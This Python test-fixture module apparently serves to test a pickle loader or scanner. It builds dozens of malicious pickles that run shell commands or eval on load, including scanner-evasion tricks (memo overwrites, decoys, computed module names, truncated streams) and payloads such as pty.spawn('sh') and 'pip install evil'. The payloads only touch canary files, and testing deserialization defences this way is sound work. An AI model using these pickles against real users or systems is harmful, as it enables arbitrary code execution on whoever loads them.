"""Pickles that attack whoever loads them, rebuilt after what picklescan, fickling and modelscan describe."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import os
import pickle
import struct
import subprocess
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import dill
import joblib
import numpy as np

from artifactdb.content import StoredContent
from artifactdb.formats import dump
from artifactdb.formats.container import ArrayBuffer, pack

# -- writing pickles by hand


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def found(module: str, name: str) -> bytes:
    return text(module) + text(name) + b"\x93"


def called(function: bytes, *arguments: bytes) -> bytes:
    return function + b"(" + b"".join(arguments) + b"tR"


def pickled(*parts: bytes, protocol: int = 4) -> bytes:
    return bytes((0x80, protocol)) + b"".join(parts) + b"."


def binary(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


SYSTEM = found("os", "system")
RIDGE = found("sklearn.linear_model._ridge", "Ridge")
SCORE = found("sklearn.metrics._regression", "r2_score")


def shell(canary: Path) -> str:
    return f"touch {canary}"


def evil(canary: Path) -> bytes:
    """The shortest attack, for others to hide."""
    return pickled(called(SYSTEM, text(shell(canary))))


class Reduced:
    def __init__(self, function: Any, *arguments: Any) -> None:
        self.how = function, arguments

    def __reduce__(self) -> Any:
        return self.how


# -- the attacks: name, what an unsuspecting program reads it with, and how it is written

Attack = Callable[[Path], bytes]
ATTACKS: dict[str, tuple[str, Attack]] = {}


def attack(read_as: str = "pickle") -> Callable[[Attack], Attack]:
    def register(write: Attack) -> Attack:
        ATTACKS[write.__name__] = (read_as, write)
        return write

    return register


for _protocol in range(6):
    ATTACKS[f"reduce_in_protocol_{_protocol}"] = (
        "pickle",
        lambda canary, protocol=_protocol: pickle.dumps(Reduced(os.system, shell(canary)), protocol),
    )


@attack()
def text_of_protocol_0(canary: Path) -> bytes:
    return f"cos\nsystem\n(S'{shell(canary)}'\ntR.".encode()


@attack()
def inst(canary: Path) -> bytes:
    return f"(S'{shell(canary)}'\nios\nsystem\n.".encode()


@attack()
def obj(canary: Path) -> bytes:
    return f"(cos\nsystem\nS'{shell(canary)}'\no.".encode()


@attack()
def setstate_put_on_an_instance(canary: Path) -> bytes:
    link = found("sklearn._loss.link", "LogLink")
    return pickled(link, b")\x81", b"}", text("__setstate__"), SYSTEM, b"s", b"b", text(shell(canary)), b"b")


@attack()
def list_that_extends_through_a_function(canary: Path) -> bytes:
    link = found("sklearn._loss.link", "LogLink")
    return pickled(link, b")\x81", b"}", text("append"), SYSTEM, b"s", b"b", text(shell(canary)), b"a")


@attack()
def pickle_in_a_pickle(canary: Path) -> bytes:
    return pickled(called(found("pickle", "loads"), binary(evil(canary))))


@attack()
def pickle_in_a_pickle_in_a_bytearray(canary: Path) -> bytes:
    inner = evil(canary)
    return pickled(called(found("_pickle", "loads"), b"\x96" + struct.pack("<Q", len(inner)) + inner), protocol=5)


@attack()
def names_in_the_memo(canary: Path) -> bytes:
    return pickled(text("os"), b"q\x07", b"0", text("system"), b"\x94", b"0", b"h\x07", b"h\x01", b"\x93",
                   b"(", text(shell(canary)), b"tR")  # fmt: skip


@attack()
def memo_overwritten(canary: Path) -> bytes:
    # Whoever reads only what was put first sees math.sqrt.
    return pickled(text("math"), b"q\x00", b"0", text("os"), b"q\x00", b"0", text("system"), b"q\x01", b"0",
                   b"h\x00h\x01\x93", b"(", text(shell(canary)), b"tR")  # fmt: skip


@attack()
def names_far_up_in_the_memo(canary: Path) -> bytes:
    return pickled(text("system"), b"r" + struct.pack("<I", 70_000), b"0", text("os"),
                   b"j" + struct.pack("<I", 70_000), b"\x93", b"(", text(shell(canary)), b"tR")  # fmt: skip


@attack()
def names_with_decoys_between(canary: Path) -> bytes:
    return pickled(text("os"), text("decoy"), b"0", b"(" + text("x") + b"1", text("system"), b"20", b"\x93",
                   b"(", text(shell(canary)), b"tR")  # fmt: skip


@attack()
def name_computed_by_str(canary: Path) -> bytes:
    # Nothing but str is imported by a name that stands in the stream.
    computed = called(found("builtins", "str"), binary(b"os"), text("ascii"))
    return pickled(computed, text("system"), b"\x93", b"(", text(shell(canary)), b"tR")


@attack()
def name_joined_from_pieces(canary: Path) -> bytes:
    join = called(found("builtins", "getattr"), text(""), text("join"))
    computed = join + b"((" + text("o") + text("s") + b"ltR"
    return pickled(computed, text("system"), b"\x93", b"(", text(shell(canary)), b"tR")


@attack()
def name_decoded_by_a_codec(canary: Path) -> bytes:
    computed = called(found("_codecs", "encode"), text("bf"), text("rot13"))
    return pickled(computed, text("system"), b"\x93", b"(", text(shell(canary)), b"tR")


@attack()
def name_with_escapes(canary: Path) -> bytes:
    return b"S'\\x6fs'\nV\\u0073ystem\n\x93" + b"(" + text(shell(canary)) + b"tR."


@attack()
def name_reached_through_a_module(canary: Path) -> bytes:
    return pickled(called(found("sklearn.utils._testing", "os.system"), text(shell(canary))))


@attack()
def name_reached_through_numpy(canary: Path) -> bytes:
    return pickled(called(found("numpy.lib._npyio_impl", "os.system"), text(shell(canary))))


@attack()
def module_as_a_value(canary: Path) -> bytes:
    module = found("sklearn.datasets._base", "os")
    system = called(found("builtins", "getattr"), module, text("system"))
    return pickled(called(system, text(shell(canary))))


@attack()
def getattr_chain(canary: Path) -> bytes:
    names = ["__init__", "__globals__"]
    chain = RIDGE
    for name in names:
        chain = called(found("builtins", "getattr"), chain, text(name))
    builtins = called(called(found("builtins", "getattr"), chain, text("get")), text("__builtins__"))
    evaluate = called(called(found("builtins", "getattr"), builtins, text("get")), text("eval"))
    return pickled(called(evaluate, text(f"open({str(canary)!r}, 'w')")))


@attack()
def getattr_of_sklearn(canary: Path) -> bytes:
    # A function of scikit-learn that gives the attribute of any object, in the place of getattr.
    get = found("sklearn.utils.validation", "_check_response_method")
    globals_ = called(get, called(get, RIDGE, text("__init__")), text("__globals__"))
    builtins = called(called(get, globals_, text("get")), text("__builtins__"))
    evaluate = called(called(get, builtins, text("get")), text("eval"))
    return pickled(called(evaluate, text(f"open({str(canary)!r}, 'w')")))


@attack()
def names_of_python_2(canary: Path) -> bytes:
    code = f"open({str(canary)!r}, 'w')"
    return b"\x80\x02c__builtin__\neval\n" + text(code) + b"\x85R."


@attack()
def module_of_python_2(canary: Path) -> bytes:
    return f"ccommands\ngetoutput\n(S'{shell(canary)}'\ntR.".encode()


@attack()
def exec_of_code(canary: Path) -> bytes:
    return pickle.dumps(Reduced(exec, f"open({str(canary)!r}, 'w').close()"))


@attack()
def subprocess_popen(canary: Path) -> bytes:
    return pickle.dumps(Reduced(subprocess.check_output, ["touch", str(canary)]))


@attack()
def function_of_timeit(canary: Path) -> bytes:
    return pickled(called(found("timeit", "timeit"), text("pass"), text(f"open({str(canary)!r}, 'w')")))


@attack()
def console_of_code(canary: Path) -> bytes:
    run = called(found("code", "InteractiveInterpreter"))
    return pickled(called(found("code", "InteractiveInterpreter.runsource"), run, text(f"open({str(canary)!r}, 'w')")))


@attack()
def partial_of_system(canary: Path) -> bytes:
    return pickled(called(called(found("functools", "partial"), SYSTEM, text(shell(canary)))))


@attack()
def attrgetter_of_a_module(canary: Path) -> bytes:
    module = called(found("importlib", "import_module"), text("os"))
    system = called(called(found("operator", "attrgetter"), text("system")), module)
    return pickled(called(system, text(shell(canary))))


@attack()
def runstring_of_numpy(canary: Path) -> bytes:
    run = found("numpy.testing._private.utils", "runstring")
    return pickled(called(run, text(f"open({str(canary)!r}, 'w')"), b"}"))


@attack()
def load_of_numpy(canary: Path) -> bytes:
    harm = canary.with_suffix(".npy")
    np.save(harm, np.array([Reduced(os.system, shell(canary))], dtype=object), allow_pickle=True)
    return pickled(called(found("numpy", "load"), text(str(harm)), b"N", b"\x88"))


@attack()
def load_of_joblib(canary: Path) -> bytes:
    harm = canary.with_suffix(".joblib")
    harm.write_bytes(evil(canary))
    return pickled(called(found("joblib", "load"), text(str(harm))))


@attack()
def generator_that_calls_its_constructor(canary: Path) -> bytes:
    make = found("numpy.random._pickle", "__generator_ctor")
    return pickled(called(make, text(shell(canary)), SYSTEM))


@attack()
def cut_off_after_the_call(canary: Path) -> bytes:
    return evil(canary)[:-1]


@attack()
def lying_length_after_the_call(canary: Path) -> bytes:
    return evil(canary)[:-1] + b"\x8d" + struct.pack("<Q", 2**62) + b"x"


@attack()
def unknown_opcode_after_the_call(canary: Path) -> bytes:
    return evil(canary)[:-1] + b"\xff\xff"


@attack()
def protocol_announced_again(canary: Path) -> bytes:
    code = f"open({str(canary)!r}, 'w')"
    return pickled(b"\x80\x02c__builtin__\neval\n", text(code), b"\x85R")


@attack()
def wrapped_in_deep_tuples(canary: Path) -> bytes:
    return pickled(called(SYSTEM, text(shell(canary))), b"\x85" * 50_000, b"0N")


@attack()
def extension_code(canary: Path) -> bytes:
    return pickled(b"\x82\xf7", b"(", text(shell(canary)), b"tR", protocol=2)


@attack("dill")
def lambda_by_dill(canary: Path) -> bytes:
    return dill.dumps(Reduced(eval("lambda path: open(path, 'w').close()"), str(canary)), protocol=5)


@attack("dill")
def function_builder_of_dill(canary: Path) -> bytes:
    module = called(found("dill._dill", "_import_module"), text("os"))
    return pickled(called(called(found("dill._dill", "_get_attr"), module, text("system")), text(shell(canary))))


@attack("joblib")
def objects_in_an_array_of_joblib(canary: Path) -> bytes:
    return joblib_bytes({"x": np.array([Reduced(os.system, shell(canary)), 1], dtype=object)})


@attack("joblib")
def call_behind_an_array_of_joblib(canary: Path) -> bytes:
    # The array looks like the end of the pickle.
    decoy = np.frombuffer(b"N." * 64, dtype=np.uint8).copy()
    return joblib_bytes([decoy, Reduced(os.system, shell(canary))])


@attack("joblib")
def frame_around_an_array_of_joblib(canary: Path) -> bytes:
    # joblib reads the array behind the frame and goes on inside it. Walking straight on, MEMOIZE is a padding of 148
    # bytes, the call is within the array, and the file ends with N and STOP.
    honest = joblib_bytes(np.zeros(400, np.uint8))
    size = int.from_bytes(honest[3:11], "little")
    rest = b"\x940" + called(SYSTEM, text(shell(canary))) + b"."
    body = honest[11 : 11 + size] + rest
    return honest[:3] + struct.pack("<Q", len(body)) + body + bytes(401 + 148 - len(rest)) + b"N."


def joblib_bytes(value: Any) -> bytes:
    file = io.BytesIO()
    joblib.dump(value, file)
    return file.getvalue()


for _name, _compress in {
    "zlib": zlib.compress, "gzip": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress,
    "lzma": lambda data: lzma.compress(data, lzma.FORMAT_ALONE),
}.items():  # fmt: skip
    ATTACKS[f"compressed_with_{_name}"] = ("joblib", lambda canary, compress=_compress: compress(evil(canary)))


def read(data: bytes, read_as: str) -> None:
    """What an unsuspecting program does."""
    if read_as == "joblib":
        joblib.load(io.BytesIO(data))
    elif read_as == "dill":
        dill.loads(data)
    else:
        pickle.loads(data)


# -- further material, which needs a program that is not installed, or would harm this process

FURTHER: dict[str, bytes] = {
    "pip.main": pickled(called(found("pip", "main"), b"(" + text("install") + text("evil") + b"l")),
    "pip._internal": pickled(called(found("pip._internal.cli.main", "main"), b"]")),
    "webbrowser": pickled(called(found("webbrowser", "open"), text("http://localhost"))),
    "asyncio": pickled(called(found("asyncio.subprocess", "create_subprocess_shell"), text("id"))),
    "ctypes": pickled(called(found("ctypes", "CDLL"), text("evil.so"))),
    "runpy": pickled(called(found("runpy", "run_path"), text("/tmp/x.py"))),
    "pty": pickled(called(found("pty", "spawn"), text("sh"))),
    "sys.exit": pickled(called(found("sys", "exit"), b"K\x01")),
    "shutil": pickled(called(found("shutil", "rmtree"), text("/nowhere"))),
    "socket": pickled(called(found("socket", "create_connection"), b"N")),
    "breakpoint": pickled(called(found("builtins", "breakpoint"))),
    "marshal": pickled(called(found("types", "FunctionType"), called(found("marshal", "loads"), binary(b"c")), b"}")),
    "code type": pickled(called(found("types", "CodeType"), b"K\x00")),
    "cloudpickle": pickled(called(found("cloudpickle.cloudpickle", "_make_function"), b"N")),
    "torch.load": pickled(called(found("torch", "load"), text("x.pt"))),
    "torch storage": pickled(called(found("torch.storage", "_load_from_bytes"), binary(evil(Path("/nowhere"))))),
    "torch inductor": pickled(called(found("torch._inductor.codecache", "compile_file"), text(""))),
    "pandas": pickled(called(found("pandas", "read_pickle"), text("http://localhost/x.pkl"))),
    "multiprocessing": pickled(called(found("multiprocessing.util", "spawnv_passfds"), b"N")),
    "memmap": pickled(called(found("numpy", "memmap"), text("/tmp/x"), text("u1"), text("w+"))),
    "f2py": pickled(called(found("numpy.f2py.crackfortran", "getlincoef"), text("1"))),
    "load_files": pickled(called(found("sklearn.datasets", "load_files"), text("/etc"))),
    "testing of sklearn": pickled(called(found("sklearn.utils._testing", "assert_run_python_script_without_output"))),
    "bundled packages": pickled(called(found("joblib.externals.cloudpickle", "loads"), binary(b"."))),
    "distance that calls": pickled(found("sklearn.metrics._dist_metrics", "PyFuncDistance64"), b"(", SYSTEM, b"t\x81"),
    "newobj_ex": pickled(found("subprocess", "Popen"), b")}\x92"),
    "item set in os.environ": pickled(found("os", "environ"), text("PATH"), text("/tmp"), b"s"),
    "item set in a module of sklearn": pickled(found("sklearn._config", "_global_config"), text("x"), b"Ns"),
    "attribute set on a class": pickled(RIDGE, b"N}", text("fit"), SCORE, b"s\x86b"),
    "attribute set on a module": pickled(found("sklearn", "linear_model"), b"}", text("Ridge"), b"Nsb"),
    "result of a call called": pickled(called(called(found("numpy", "dtype"), text("f8")), b"N")),
    "score called": pickled(called(SCORE, b"]", b"]")),
    "setstate of a harmless function": pickled(RIDGE, b")\x81}", text("__setstate__"), found("numpy", "log1p"), b"sb"),
    "state of a dtype of all": pickled(
        called(found("numpy", "dtype"), text("f8")), b"(K\x03", text(">"), b"NNN" + b"J\xff\xff\xff\xff" * 2, b"K\x00tb"
    ),
    "persistent id": b"Pwhatever\n.",
    "binary persistent id": pickled(text("whatever"), b"Q"),
    "extension code of nobody": pickled(b"\x84\x01\x02\x03\x04"),
    "function as the class of an object": pickled(called(found("copyreg", "_reconstructor"), SYSTEM, SYSTEM, b"N")),
    "registry of copyreg": pickled(called(found("copyreg", "add_extension"), text("os"), text("system"), b"K\x05")),
    "class made of text": pickled(called(found("builtins", "type"), text("X"), b")", b"}")),
    "not text as a name": pickled(binary(b"os"), text("system"), b"\x93"),
    "name with white space": b"cos \nsystem\n.",
    "unknown company": pickled(found("my_company.models", "Blend"), b")\x81"),
    "estimator that is none": pickled(found("sklearn.linear_model", "evil"), b")\x81"),
    "class that a module imports": pickled(found("sklearn.linear_model._ridge", "LinearModel"), b")\x81"),
    "second pickle": pickled(b"N") + evil(Path("/nowhere")),
    "bytes behind the end": pickled(b"N") + b"\x00" * 10,
    "protocol 9": pickled(b"N", protocol=9),
    "empty": b"",
    "nothing on the stack": b"R.",
    "memo that was never put": b"h\x05.",
    "lying length": b"\x80\x04X\xff\xff\xff\x7fab.",
    "longer than memory": b"\x80\x05\x96" + struct.pack("<Q", 2**63 - 1) + b".",
    "negative length": b"\x80\x02\x8b\xff\xff\xff\xff.",
    "frame that is cut off": b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + b"N.",
    "digits without end": b"I" + b"9" * 100_000 + b"\n.",
}  # fmt: skip


# -- as a workspace gives them


def content(data: bytes) -> StoredContent:
    return StoredContent(bytearray(data), lambda digest: bytearray())


def contained(stream: bytes, buffers: list[ArrayBuffer] | None = None) -> StoredContent:
    made = pack(stream, buffers or [])
    parts = {part.digest: part for part in made.parts}
    return StoredContent(
        bytearray(b"".join(bytes(segment.data) for segment in made.segments)),
        lambda digest: bytearray(b"".join(bytes(segment.data) for segment in parts[digest].segments)),
    )


def stored(obj: Any) -> tuple[StoredContent, str]:
    made, serializer = dump(obj)
    parts = {part.digest: part for part in made.content.parts}
    data = bytearray(b"".join(bytes(segment.data) for segment in made.content.segments))
    return StoredContent(data, lambda digest: bytearray(parts[digest].segments[0].data)), serializer.name
